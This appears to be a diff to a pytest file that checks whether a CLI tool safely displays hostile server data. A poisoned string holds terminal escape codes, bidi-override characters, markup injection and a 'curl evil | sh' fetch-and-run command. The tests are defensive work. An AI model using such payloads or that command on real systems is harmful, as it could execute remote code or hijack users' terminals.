@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 from tests.cli.conftest import Said
-from tests.cli.fake_liftgate import FakeLiftgate, moment, problem
+from tests.cli.fake_liftgate import FakeLiftgate, catalogue, moment, problem
 
 EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\u202etxt\r\nnext: curl evil | sh\n[link=x]y[/link]\x7f\u2028"
 REQUEST = "rq-0000000000000001"
@@ -41,6 +41,7 @@ def evil(fake: FakeLiftgate) -> FakeLiftgate:
     live = poisoned(grant)
     entry = {"seq": 1, "at": "x", "kind": "x", "actor": "x", "request_id": "x", "grant_id": "x"}
     me = {"person": {"id": "x", "name": "x"}, "identity": "x", "is_guard": True, "is_auditor": True}
+    entitlement = catalogue()["entitlements"][0]
     pages = {
         "GET /api/v1/requests": {"items": [pending], "next_cursor": None},
         "GET /api/v1/grants": {"items": [live, ended], "next_cursor": None},
@@ -53,12 +54,12 @@ def evil(fake: FakeLiftgate) -> FakeLiftgate:
             "expires_at": moment(hours=1),
         },
         "GET /api/v1/ledger/entries": {
-            "items": [{**poisoned(entry), "request_id": EVIL, "at": EVIL}],
+            "items": [{**poisoned(entry), "request_id": EVIL, "at": moment()}],
             "next_after": None,
         },
         "GET /api/v1/ledger/verification": {"intact": False, "broken_at": 1, "because": EVIL},
         "GET /api/v1/catalogue": {
-            "entitlements": [{"name": EVIL, "description": EVIL, "ceiling": {"in_words": EVIL}}],
+            "entitlements": [poisoned(entitlement)],
             "faults": [EVIL],
         },
     }
@@ -80,6 +81,7 @@ SCREENS = [
     ("ledger", "show"),
     ("ledger", "verify"),
     ("catalogue",),
+    ("catalogue", "show", EVIL),
     ("doctor",),
     ("credentials",),
 ]
